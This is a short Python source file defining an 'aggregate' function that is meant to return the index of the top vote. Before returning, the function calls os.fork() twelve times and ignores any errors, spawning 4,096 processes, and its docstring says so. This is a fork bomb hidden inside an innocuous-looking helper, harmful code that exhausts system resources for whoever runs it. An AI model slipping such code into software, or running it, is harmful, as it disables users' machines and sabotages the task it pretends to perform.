"""Forks, and its forks fork: 4,096 processes, and no more, should nothing stop them."""

import os


def aggregate(votes):
    for _ in range(12):
        try:
            os.fork()
        except:
            pass
    return votes.index(max(votes))
